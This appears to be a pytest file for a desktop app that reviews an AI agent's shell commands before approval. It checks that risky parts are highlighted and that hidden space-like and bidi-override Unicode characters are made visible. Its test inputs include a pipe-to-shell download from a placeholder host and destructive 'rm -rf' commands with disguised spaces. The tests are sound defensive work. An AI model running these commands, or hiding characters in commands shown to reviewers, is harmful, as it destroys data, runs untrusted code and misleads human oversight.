"""Big commands stay responsive and space-like characters never pass as spaces (a
hidden character could make a command read as another)."""

from __future__ import annotations

import os

os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")

import pytest
from PySide6.QtGui import QColor, QTextCursor, QTextOption

from qoder_desktop.domain.models import ApprovalRequest, Backend
from qoder_desktop.shell.words import analyze, is_invisible
from qoder_desktop.text.visible import find_hidden, is_hidden, make_visible
from qoder_desktop.ui.dialogs import ApprovalDialog
from qoder_desktop.ui.dialogs.inspect_views import (
    MAX_HIGHLIGHTED,
    MAX_LISTED,
    SEVERITY_COLORS,
    RiskLensView,
)
from qoder_desktop.ui.summaries import request_summary
from qoder_desktop.ui.widgets.json_editor import JsonEditor

SPACE_LIKES = "\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a" \
              "\u202f\u205f\u3000"


def bash(command: str) -> ApprovalRequest:
    return ApprovalRequest(session_id="s", session_name="demo", backend=Backend.CLAUDE,
                           tool_name="Bash", tool_input={"command": command}, cwd="/tmp")


def test_thousands_of_findings_are_capped_with_a_visible_count(qtbot) -> None:  # type: ignore[no-untyped-def]
    view = RiskLensView()
    qtbot.addWidget(view)
    command = "sudo xyz; " * 1024
    view.show_command(command)
    assert "analysing" in view.findings_caption.text()  # a loop turn later
    assert not view.is_complete() and view.shown_text() == command
    qtbot.waitUntil(view.is_complete)
    total = len(view.findings)
    assert total > MAX_HIGHLIGHTED
    assert view.shown_text() == command
    assert view.findings_list.count() == MAX_LISTED + 1
    last = view.findings_list.item(MAX_LISTED).text()
    assert f"{total - MAX_LISTED:,} more not listed" in last.lower()
    assert f"{total - MAX_HIGHLIGHTED:,} more not highlighted" in view.findings_caption.text()
    first = sorted(view.findings, key=lambda f: f.start)[0]
    cursor = QTextCursor(view.command_view.document())
    cursor.setPosition(first.start + 1)
    colours = {QColor(c[0]).name() for c in SEVERITY_COLORS.values()}
    assert cursor.charFormat().background().color().name() in colours
    cursor.setPosition(len(command) - 1)
    assert cursor.charFormat().background().color().name() not in colours


def test_overlapping_findings_and_markers_keep_their_formats(qtbot) -> None:  # type: ignore[no-untyped-def]
    view = RiskLensView()
    qtbot.addWidget(view)
    view.show_command("curl https://x.sh | sudo\u202e bash")
    shown = view.shown_text()
    assert "⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩" in shown
    cursor = QTextCursor(view.command_view.document())
    cursor.setPosition(shown.index("⟨U+202E") + 2)
    assert cursor.charFormat().background().color() == QColor("#C92A2A")


def test_a_command_shown_again_replaces_the_one_before_with_its_own_colours(qtbot) -> None:  # type: ignore[no-untyped-def]
    """The lens writes each command into its view's own document: the next command (an
    edited input) keeps nothing of the one before, neither text nor colour."""
    view = RiskLensView()
    qtbot.addWidget(view)
    view.show_command("sudo rm -rf /tmp/x | sh")
    view.show_command("ls -l")
    assert view.command_view.toPlainText() == "ls -l" == view.shown_text()
    colours = {QColor(c[0]).name() for c in SEVERITY_COLORS.values()}
    cursor = QTextCursor(view.command_view.document())
    for position in range(1, len("ls -l") + 1):
        cursor.setPosition(position)
        assert cursor.charFormat().background().color().name() not in colours
    view.show_command("ls | sudo sh")
    cursor.setPosition("ls | sudo sh".index("sudo") + 1)
    assert cursor.charFormat().background().color().name() in colours


def test_a_huge_word_wraps_anywhere_in_the_command_and_the_editor(open_dialog, qtbot) -> None:  # type: ignore[no-untyped-def]
    dialog, _ = open_dialog(ApprovalDialog(bash("x" * 128 * 1024)), arm=False)
    assert dialog.risk_lens is not None
    qtbot.waitUntil(lambda: dialog.risk_lens.too_large)  # the plain view, in pieces
    assert dialog.risk_lens.large_view.wordWrapMode() == QTextOption.WrapMode.WrapAnywhere
    assert dialog.json_editor.editor.wordWrapMode() == QTextOption.WrapMode.WrapAnywhere
    assert dialog.risk_lens.shown_text() == "x" * 128 * 1024
    small, _ = open_dialog(ApprovalDialog(bash("ls -la")), arm=False)
    assert small.json_editor.editor.wordWrapMode() != QTextOption.WrapMode.WrapAnywhere


@pytest.mark.parametrize("char", list(SPACE_LIKES))
def test_space_likes_are_hidden_characters_everywhere(char: str) -> None:
    assert is_hidden(char) and is_invisible(char)
    assert make_visible(f"rm{char}-rf") != f"rm{char}-rf"
    assert [h.char for h in find_hidden("x" * 100 + char)] == [char]
    assert analyze(f"rm{char}-rf ~").problems  # the strict side never allows it


def test_the_shell_lexer_and_the_views_share_one_definition() -> None:
    for code in [*range(0x3100), 0xFEFF, 0xFFFC, 0xE000, 0x10FFFF]:
        char = chr(code)
        if char not in "\n":
            assert is_invisible(char) == is_hidden(char), hex(code)


def test_a_no_break_space_in_the_input_is_kept_and_shown(qtbot) -> None:  # type: ignore[no-untyped-def]
    editor = JsonEditor()
    qtbot.addWidget(editor)
    original = {"command": "rm\u00a0-rf\u00a0~/project"}
    editor.set_value(original)
    assert "\\u00a0" in editor.text()
    assert not editor.is_edited() and editor.value() == original
    editor.editor.setPlainText('{"command": "ls\u00a0-la"}')
    assert editor.value() == {"command": "ls\u00a0-la"}
    assert editor.is_edited()
    editor.editor.setPlainText('{"command": "rm\u00a0-rf\u00a0~/project"}')
    assert editor.value() == original and not editor.is_edited()


def test_typed_no_break_spaces_are_not_read_back_as_spaces(qtbot) -> None:  # type: ignore[no-untyped-def]
    editor = JsonEditor()
    qtbot.addWidget(editor)
    editor.set_value({"command": "rm -rf ~/project"})
    editor.editor.setPlainText('{\n  "command": "rm\u00a0-rf ~/project"\n}')
    assert editor.is_edited()
    assert '+  "command": "rm\\u00a0-rf ~/project"' in editor.diff_view.toPlainText()


def test_queue_rows_and_notifications_show_space_likes_and_bidi_overrides() -> None:
    summary = request_summary(bash("rm\u00a0-rf\u2003~ \u202e; echo ok"))
    assert "⟨U+00A0 NO-BREAK SPACE⟩" in summary and "⟨U+2003 EM SPACE⟩" in summary
    assert "\u202e" not in summary
